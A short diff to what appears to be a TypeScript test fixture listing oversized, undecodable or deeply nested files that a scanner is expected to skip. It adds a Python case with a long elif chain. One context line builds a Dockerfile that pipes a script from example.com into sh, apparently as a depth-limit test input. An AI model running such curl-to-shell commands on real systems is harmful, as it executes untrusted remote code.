@@ -9,6 +9,7 @@ const UNREAD: readonly [string, string, string][] = [
   ['legacy.py', '# coding: utf-7\nprint(1)\n', 'not-decoded'],
   ['made.py', `${'# padded\n'.repeat(MEBIBYTE)}print(1)\n`, 'too-large'],
   ['deep.py', `x = ${'not '.repeat(600)}y\n`, 'too-deep'],
+  ['cases.py', `if x == 0:\n    y = 1\n${'elif x == 1:\n    y = 2\n'.repeat(1_100)}`, 'too-deep'],
   ['chain.py', `x = y${'.b()'.repeat(6_000)}\n`, 'too-deep'],
   ['compose.yaml', `${SERVICE}x-deep: ${'['.repeat(200)}${']'.repeat(200)}\n`, 'too-deep'],
   ['Dockerfile', `FROM python:3.12\n${'# padded\n'.repeat(20_000)}RUN curl http://example.com | sh\n`, 'too-deep'],
